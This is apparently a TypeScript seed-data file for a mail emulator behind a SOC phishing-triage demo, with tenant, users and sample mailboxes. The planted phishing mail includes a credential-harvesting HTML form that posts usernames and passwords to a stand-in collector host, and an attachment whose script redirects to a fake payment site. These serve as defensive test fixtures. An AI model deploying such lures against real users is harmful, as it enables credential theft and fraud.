/**
 * The demo: one tenant, one app, a few mailboxes with realistic mail (what `npm start` shows with
 * no environment, and what most tests start from).
 */
import { toMime } from './mime';
import type { EmulatorState } from './state';

/** Demo tenant id (the tenant's domain `demo.onmicrosoft.com` is accepted wherever the id is). */
export const DEMO_TENANT = 'demo-tenant';
export const DEMO_TENANT_DOMAIN = 'demo.onmicrosoft.com';
/** Demo app registration (client credentials, auth code with PKCE, refresh tokens). */
export const DEMO_CLIENT_ID = '00000000-0000-0000-0000-00000000d3m0';
export const DEMO_CLIENT_SECRET = 'demo-secret';
/** Seeded mailboxes. */
export const DEMO_MAILBOXES = {
  soc: 'soc@demo.onmicrosoft.com',
  alice: 'alice@demo.onmicrosoft.com',
  bob: 'bob@demo.onmicrosoft.com',
  phish: 'phish@demo.onmicrosoft.com',
} as const;
/** The demo's default mailbox (the SOC's shared mailbox). */
export const DEMO_MAILBOX = DEMO_MAILBOXES.soc;
/** What each mailbox holds, in a few words (the demo's first screen names them). */
export const DEMO_MAILBOX_NOTES: Record<keyof typeof DEMO_MAILBOXES, string> = {
  soc: "the SOC's shared mailbox, the default",
  alice: 'received the phish',
  bob: 'a colleague',
  phish: 'where users report phishing',
};
/** The planted phish: received by Alice, reported by her to phish@ with the original attached. */
export const DEMO_PHISH = {
  subject: 'Action required: your mailbox is almost full',
  sender: 'it-support@contoso-helpdesk.co',
  mailbox: DEMO_MAILBOXES.alice,
  reportedTo: DEMO_MAILBOXES.phish,
  /** Every report's subject begins so. */
  reportSubject: 'Phishing report',
} as const;
/** The mailboxes (with notes) and the planted phish, as the demo's tour uses them. */
export const DEMO_FACTS = {
  mailboxes: (Object.keys(DEMO_MAILBOXES) as Array<keyof typeof DEMO_MAILBOXES>).map((k) => ({ address: DEMO_MAILBOXES[k], note: DEMO_MAILBOX_NOTES[k] })),
  phish: DEMO_PHISH,
};
/** A seeded user without a mailbox (Graph answers MailboxNotEnabledForRESTAPI). */
export const DEMO_USER_WITHOUT_MAILBOX = 'svc-scanner@demo.onmicrosoft.com';

/** The demo tenant, app, users, mailboxes and mail; times are relative to `now`. */
export function addDemoData(state: EmulatorState, now: Date = new Date()): void {
  const ago = (minutes: number): Date => new Date(now.getTime() - minutes * 60000);
  state.settings.generateAuditContent = true;
  state.settings.mailArrivalMinutes = 15;
  state.addTenant({ id: DEMO_TENANT, displayName: 'Demo Corp', domains: [DEMO_TENANT_DOMAIN, 'demo.example'], city: 'Redmond', countryLetterCode: 'US' });
  state.addApp({ clientId: DEMO_CLIENT_ID, tenantId: DEMO_TENANT, displayName: 'chatsoar demo', secrets: [DEMO_CLIENT_SECRET], redirectUris: ['*'] });

  state.addUser({
    id: '6e7b7f5e-2c41-4b8e-9a55-0c3f5d6a1a01',
    userPrincipalName: DEMO_MAILBOXES.soc,
    displayName: 'SOC Team',
    jobTitle: 'Security Operations',
  });
  const alice = state.addUser({
    id: '6e7b7f5e-2c41-4b8e-9a55-0c3f5d6a1a02',
    userPrincipalName: DEMO_MAILBOXES.alice,
    displayName: 'Alice Martin',
    givenName: 'Alice',
    surname: 'Martin',
    jobTitle: 'Accountant',
  });
  state.addUser({
    id: '6e7b7f5e-2c41-4b8e-9a55-0c3f5d6a1a03',
    userPrincipalName: DEMO_MAILBOXES.bob,
    displayName: 'Bob Chen',
    givenName: 'Bob',
    surname: 'Chen',
    jobTitle: 'Sales Manager',
  });
  state.addUser({ id: '6e7b7f5e-2c41-4b8e-9a55-0c3f5d6a1a04', userPrincipalName: DEMO_MAILBOXES.phish, displayName: 'Phishing Reports' });
  state.addUser({ id: '6e7b7f5e-2c41-4b8e-9a55-0c3f5d6a1a05', userPrincipalName: DEMO_USER_WITHOUT_MAILBOX, displayName: 'Scanner Service', mailbox: false });

  for (const mb of [DEMO_MAILBOXES.soc, DEMO_MAILBOXES.phish]) {
    state.addFolder(mb, 'inbox', 'Phishing');
    state.addFolder(mb, 'Inbox/Phishing', 'Reported');
  }
  state.addFolder(DEMO_MAILBOXES.soc, 'archive', '2024');

  // Alice is out of the office.
  alice.availability = 'Away';
  alice.activity = 'OffWork';
  const aliceBox = state.mailbox(DEMO_MAILBOXES.alice);
  aliceBox.settings.automaticRepliesSetting = {
    ...aliceBox.settings.automaticRepliesSetting,
    status: 'alwaysEnabled',
    internalReplyMessage: '<html><body><p>I am out of the office until Monday. For urgent matters contact bob@demo.onmicrosoft.com.</p></body></html>',
    externalReplyMessage: '<html><body><p>I am out of the office until Monday.</p></body></html>',
  };

  const phishHtml =
    '<html><body><p>Dear user,</p><p>Your mailbox has reached <b>98%</b> of its storage quota. To avoid losing incoming mail, ' +
    'verify your account within 24 hours:</p><p><a href="http://contoso-helpdesk.co/owa/login.php?u=alice">Verify my mailbox</a></p>' +
    '<p>IT Service Desk</p></body></html>';
  const phishHeaders = {
    'Received-SPF': 'Fail (protection.outlook.com: domain of contoso-helpdesk.co does not designate 203.0.113.45 as permitted sender)',
    'Authentication-Results':
      'spf=fail (sender IP is 203.0.113.45) smtp.mailfrom=contoso-helpdesk.co; dkim=none (message not signed) header.d=none; dmarc=fail action=none header.from=contoso-helpdesk.co',
    'X-Originating-IP': '[203.0.113.45]',
    'X-MS-Exchange-Organization-SCL': '5',
  };
  const quotaNotice =
    '<html><body><form action="http://contoso-helpdesk.co/owa/collect.php" method="post"><p>Outlook Web App</p>' +
    '<input name="user" placeholder="Email"><input name="pass" type="password" placeholder="Password"><button>Sign in</button></form></body></html>';
  const original = state.addMessage(DEMO_MAILBOXES.alice, 'inbox', {
    subject: DEMO_PHISH.subject,
    from: `IT Service Desk <${DEMO_PHISH.sender}>`,
    to: [DEMO_MAILBOXES.alice],
    body: phishHtml,
    receivedDateTime: ago(180),
    importance: 'high',
    headers: phishHeaders,
    attachments: [{ name: 'Mailbox_Quota_Notice.html', contentType: 'text/html', content: quotaNotice }],
  });
  state.addMessage(DEMO_MAILBOXES.alice, 'inbox', {
    subject: 'Lunch on Friday?',
    from: 'Bob Chen <bob@demo.onmicrosoft.com>',
    to: [DEMO_MAILBOXES.alice],
    body: 'Hi Alice,\n\nAre you free for lunch on Friday? The new place on 5th street.\n\nBob',
    bodyType: 'text',
    receivedDateTime: ago(300),
    isRead: true,
  });
  state.addMessage(DEMO_MAILBOXES.alice, 'inbox', {
    subject: 'Q3 budget draft',
    from: 'Bob Chen <bob@demo.onmicrosoft.com>',
    to: [DEMO_MAILBOXES.alice],
    cc: [DEMO_MAILBOXES.soc],
    body: '<html><body><p>Alice, the Q3 budget draft is attached. Please review the travel line.</p></body></html>',
    receivedDateTime: ago(26 * 60),
    isRead: true,
    attachments: [{ name: 'budget-q3.csv', contentType: 'text/csv', content: 'line,amount\ntravel,12000\nsoftware,8400\ntraining,3100\n' }],
  });
  state.addMessage(DEMO_MAILBOXES.alice, 'junkemail', {
    subject: 'Congratulations! You have won a $500 gift card',
    from: 'Rewards Center <promo@win-prizes.example>',
    to: [DEMO_MAILBOXES.alice],
    body: '<html><body><p>Claim your prize now: <a href="http://win-prizes.example/claim">claim</a></p></body></html>',
    receivedDateTime: ago(30 * 60),
  });
  state.addMessage(DEMO_MAILBOXES.alice, 'sentitems', {
    subject: 'RE: Lunch on Friday?',
    from: DEMO_MAILBOXES.alice,
    to: ['Bob Chen <bob@demo.onmicrosoft.com>'],
    body: 'Sounds good, see you at noon.',
    bodyType: 'text',
    receivedDateTime: ago(290),
    isRead: true,
  });

  // phish@: user-reported phishing, an .eml file attachment and an Outlook item attachment.
  state.addMessage(DEMO_MAILBOXES.phish, 'inbox', {
    subject: `${DEMO_PHISH.reportSubject}: ${DEMO_PHISH.subject}`,
    from: 'Alice Martin <alice@demo.onmicrosoft.com>',
    to: [DEMO_MAILBOXES.phish],
    body: 'I think this is phishing. The sender is not our IT department. Original attached.\n\nAlice',
    bodyType: 'text',
    receivedDateTime: ago(170),
    attachments: [{ name: 'Action required your mailbox is almost full.eml', contentType: 'message/rfc822', content: toMime(original) }],
  });
  state.addMessage(DEMO_MAILBOXES.phish, 'inbox', {
    subject: 'FW: Invoice INV-20931 overdue',
    from: 'Bob Chen <bob@demo.onmicrosoft.com>',
    to: [DEMO_MAILBOXES.phish],
    body: '<html><body><p>Got this from a vendor we never worked with. Forwarding as attachment.</p></body></html>',
    receivedDateTime: ago(60),
    attachments: [
      {
        name: 'Invoice INV-20931 overdue',
        item: {
          subject: 'Invoice INV-20931 overdue',
          from: 'Fabrikam Billing <billing@fabrikam-invoices.example>',
          to: [DEMO_MAILBOXES.bob],
          body: '<html><body><p>Your invoice INV-20931 of $4,870.00 is overdue. Open the attached invoice to pay today.</p></body></html>',
          receivedDateTime: ago(75),
          headers: { 'X-Originating-IP': '[198.51.100.23]' },
          attachments: [
            {
              name: 'INV-20931.pdf.html',
              contentType: 'text/html',
              content: '<html><body><script>location="http://fabrikam-invoices.example/pay"</script></body></html>',
            },
          ],
        },
      },
    ],
  });
  state.addMessage(DEMO_MAILBOXES.phish, 'Inbox/Phishing/Reported', {
    subject: `${DEMO_PHISH.reportSubject}: Password expiry notice`,
    from: 'Bob Chen <bob@demo.onmicrosoft.com>',
    to: [DEMO_MAILBOXES.phish],
    body: 'Another one. Triaged already.',
    bodyType: 'text',
    receivedDateTime: ago(2 * 24 * 60),
    isRead: true,
    categories: ['Triaged'],
  });

  // soc@: alerts and reports.
  state.addMessage(DEMO_MAILBOXES.soc, 'inbox', {
    subject: 'Weekly SOC report',
    from: 'SOC Manager <soc-manager@demo.onmicrosoft.com>',
    to: [DEMO_MAILBOXES.soc],
    body: '<html><body><p>Team, this week: 14 phishing reports, 2 confirmed, 0 incidents. Good work.</p></body></html>',
    receivedDateTime: ago(24 * 60),
    isRead: true,
  });
  state.addMessage(DEMO_MAILBOXES.soc, 'inbox', {
    subject: '[Alert] Impossible travel activity for alice@demo.onmicrosoft.com',
    from: 'Microsoft Defender <defender-noreply@microsoft.com>',
    to: [DEMO_MAILBOXES.soc],
    body: '<html><body><p>Severity: <b>Medium</b></p><p>Sign-ins from Amsterdam, NL and Lagos, NG within 40 minutes.</p></body></html>',
    receivedDateTime: ago(240),
    importance: 'high',
  });
  state.addMessage(DEMO_MAILBOXES.soc, 'Inbox/Phishing', {
    subject: 'Escalated: credential phishing campaign (contoso-helpdesk.co)',
    from: 'Phishing Reports <phish@demo.onmicrosoft.com>',
    to: [DEMO_MAILBOXES.soc],
    body: 'Three users reported the same "mailbox almost full" lure today. Sender domain contoso-helpdesk.co.',
    bodyType: 'text',
    receivedDateTime: ago(150),
  });
  state.addMessage(DEMO_MAILBOXES.soc, 'drafts', {
    subject: 'Draft: phishing awareness reminder',
    from: DEMO_MAILBOXES.soc,
    to: ['all-staff@demo.onmicrosoft.com'],
    body: 'Reminder: IT will never ask for your password by mail.',
    bodyType: 'text',
    receivedDateTime: ago(45),
    isDraft: true,
    isRead: true,
  });
}
